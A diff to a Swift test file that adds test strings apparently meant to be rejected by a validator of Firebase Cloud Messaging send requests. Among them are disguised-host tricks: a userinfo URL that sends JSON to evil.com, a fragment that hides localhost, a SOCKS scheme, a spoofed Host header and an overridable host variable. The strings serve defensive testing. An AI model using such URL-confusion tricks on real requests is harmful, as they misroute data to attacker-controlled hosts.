@@ -143,6 +143,15 @@ import Testing
       "curl 'https://fcm.googleapis.com/fcm/send?dry_run=true' -d '{\"to\": \"/topics/a\"}'",
       "POST http://127.0.0.1:9099/v1/projects/p/messages:send\n\nJSON",
       "POST /v1/projects/p/messages:send HTTP/1.1\nHost: localhost:9\n\nJSON",
+      "GET /v1/projects/p/messages:send HTTP/1.1\n\nJSON",
+      "POST FCM\nX-HTTP-Method-Override: GET\n\nJSON",
+      "curl localhost:9099/v1/projects/p/messages:send -d 'JSON'", "# curl FCM -d 'JSON'",
+      "curl https://fcm.googleapis.com:pw@evil.com/v1/projects/p/messages:send -d 'JSON'",
+      "curl https://localhost#fcm.googleapis.com/v1/projects/p/messages:send -d 'JSON'",
+      "curl socks5://fcm.googleapis.com/v1/projects/p/messages:send -d 'JSON'",
+      "curl \"FCM$Q\" -d 'JSON'", "curl 'FCM;validateOnly=true' -d 'JSON'",
+      "curl -H 'Host: staging.example.com' FCM -d 'JSON'",
+      "curl \"${FCM_HOST:-https://fcm.googleapis.com}/v1/projects/p/messages:send\" -d 'JSON'",
     ])
   func ways(text: String) throws {
     let result = try read(
